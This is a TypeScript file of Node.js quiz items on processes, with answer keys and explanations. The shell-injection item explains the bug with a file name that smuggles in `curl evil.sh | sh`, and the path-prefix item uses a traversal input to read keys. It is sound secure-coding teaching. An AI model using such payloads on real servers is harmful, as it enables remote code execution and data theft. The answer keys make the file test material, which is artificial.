import type { Item } from '../rules/item.ts'

export const processes: readonly Item[] = [
  {
    id: 'nodejs/environment-is-text',
    topic: 'processes',
    kind: 'single',
    difficulty: -1.3,
    seconds: 35,
    question: 'The program is started with `IS_VERBOSE=false node app.js`. What does it print?',
    code: {
      language: 'javascript',
      text: `if (process.env.IS_VERBOSE) console.log('verbose')
else console.log('quiet')`,
    },
    right: '`verbose`, because any non-empty string is truthy',
    wrong: [
      '`quiet`, because the value is read as the boolean `false`',
      '`quiet`, because only variables in a `.env` file are read',
      'Nothing, because comparing with a string throws',
    ],
    explanation:
      'Environment variables are always strings, and `"false"` is a non-empty one. Compare the setting, `process.env.IS_VERBOSE === "true"`, or parse and check it once at the start.',
  },
  {
    id: 'nodejs/shell-injection',
    topic: 'processes',
    kind: 'find-the-bug',
    difficulty: -1,
    seconds: 60,
    question:
      '`name` comes from a form and is the name of a file that exists in `uploads`. Which line lets an attacker run commands on the server?',
    code: {
      language: 'javascript',
      text: `import { exec, execFile } from 'node:child_process'
import { basename, join } from 'node:path'
import { promisify } from 'node:util'

export async function describe(name) {
  const path = join('/srv/uploads', basename(name))
  const kind = await promisify(execFile)('file', ['--brief', '--', path])
  const size = await promisify(exec)('du -h ' + path)
  return kind.stdout.trim() + ', ' + size.stdout.split('\\t')[0]
}`,
    },
    line: 8,
    explanation:
      '`exec` passes the text to a shell, so a file called `x; curl evil.sh | sh` is more than a name to it. `execFile` starts the program directly and passes each argument as it is; `--` keeps names that begin with a dash from being read as options.',
  },
  {
    id: 'nodejs/cpu-work-in-a-server',
    topic: 'processes',
    kind: 'single',
    difficulty: -0.4,
    seconds: 50,
    question:
      'A server computes previews with JavaScript code that keeps a core busy for two seconds each. Other requests must not suffer, and the pixels shouldn’t be copied between processes. What fits best?',
    right: 'A pool of worker threads, with the buffers transferred to them',
    wrong: [
      'A cluster of several processes that share the server’s port',
      'An async function in which the computation is awaited',
      'A child process per preview that gets the pixels by `send`',
    ],
    explanation:
      'Worker threads run JavaScript in parallel within the process, and an `ArrayBuffer` can be transferred to them without copying. In a cluster, each process is still blocked by its own previews. `async` makes no difference to code that computes, and messages to child processes are serialised.',
  },
  {
    id: 'nodejs/check-and-create',
    topic: 'processes',
    kind: 'single',
    difficulty: 0.1,
    seconds: 60,
    question:
      'Several processes may try to create the same report at the same time; the first should succeed and the others should get an error. What is the right way?',
    code: {
      language: 'javascript',
      text: `if (existsSync(path)) throw new Error('exists already')
await writeFile(path, report)`,
    },
    right: "`await writeFile(path, report, { flag: 'wx' })`, without the check",
    wrong: [
      '`await access(path)` in place of `existsSync`, before writing',
      '`writeFileSync(path, report)` right after `existsSync`, without `await`',
      "`await writeFile(path, report, { flag: 'w', mode: 0o444 })`, after the check",
    ],
    explanation:
      'Between the check and the write, another process can create the file, however short that time is, and synchronous calls only hold up their own process. With `wx`, the operating system creates the file only if it doesn’t exist, in one step, and fails with `EEXIST` otherwise.',
  },
  {
    id: 'nodejs/output-cut-off',
    topic: 'processes',
    kind: 'single',
    difficulty: 0.4,
    seconds: 60,
    question:
      'On Linux, `node report.js | gzip > report.gz` yields only the first part of the report; in the terminal it is complete. The script ends like this. What fixes it?',
    code: {
      language: 'javascript',
      text: `process.stdout.write(report)
process.exit(hasWarnings ? 2 : 0)`,
    },
    right: 'Set `process.exitCode` and let the script finish by itself',
    wrong: [
      'Call `process.abort()` in place of `process.exit(…)`',
      'Put `await null` between the two lines, so the report is written',
      'Write with `console.log`, which always writes synchronously',
    ],
    explanation:
      'Writing to a pipe can be asynchronous: whatever the reader hasn’t taken yet stays in memory, and `process.exit()` ends the process without waiting for it. With `process.exitCode`, the process exits by itself once everything is written, and then with that code. `console.log` writes to the same stream.',
  },
  {
    id: 'nodejs/replacing-a-file',
    topic: 'processes',
    kind: 'order',
    difficulty: 0.6,
    seconds: 60,
    question:
      'You want to replace a settings file so that after a crash or power failure at any moment, either the old or the new content is there in full. Put the steps in order.',
    steps: [
      'Open a new file in the same directory',
      'Write the new content to it',
      'Call `sync()` on its handle and close it',
      'Call `rename` from its name to that of the settings file',
    ],
    explanation:
      'Within one file system, `rename` replaces the old file in one step, so readers see one or the other. The content has to be on disk before that; otherwise a power failure may leave an empty file under the new name. Writing to the old file itself would destroy it first.',
  },
  {
    id: 'nodejs/prefix-of-a-path',
    topic: 'processes',
    kind: 'find-the-bug',
    difficulty: 0.9,
    seconds: 75,
    question:
      '`name` comes from the client. There is also a directory `/srv/files-internal`, and a client can read files from it. Which line is wrong?',
    code: {
      language: 'javascript',
      text: `import { readFile } from 'node:fs/promises'
import { resolve } from 'node:path'

const root = '/srv/files'

export async function download(name) {
  if (name.includes('\\0')) throw new NotFound()
  const path = resolve(root, name)
  if (!path.startsWith(root)) throw new NotFound()
  return await readFile(path)
}`,
    },
    line: 9,
    explanation:
      '`../files-internal/keys` resolves to `/srv/files-internal/keys`, which starts with the text `/srv/files` without being inside that directory. The comparison needs the separator, `path.startsWith(root + sep)`. If there can be symbolic links below the root, call `realpath` first.',
  },
  {
    id: 'nodejs/permission-model',
    topic: 'processes',
    kind: 'multiple',
    difficulty: 1.2,
    seconds: 60,
    question:
      'A program is started with `node --permission --allow-fs-read="/app/*" /app/main.js` in Node 24. Which of these throw `ERR_ACCESS_DENIED`?',
    right: [
      "`writeFileSync('/app/log.txt', line)`",
      "`spawnSync('git', ['status'])`",
      "`new Worker('/app/worker.js')`",
    ],
    wrong: [
      "`readFileSync('/app/data/cities.json')`",
      '`process.env.DATABASE_URL`',
      "`await import('/app/plugin.js')`",
    ],
    explanation:
      '`--permission` blocks the file system, child processes, worker threads and native add-ons, and each has its own flag to allow it. Permission to read doesn’t include permission to write. Modules below a readable path can be imported, and the environment isn’t covered.',
  },
]
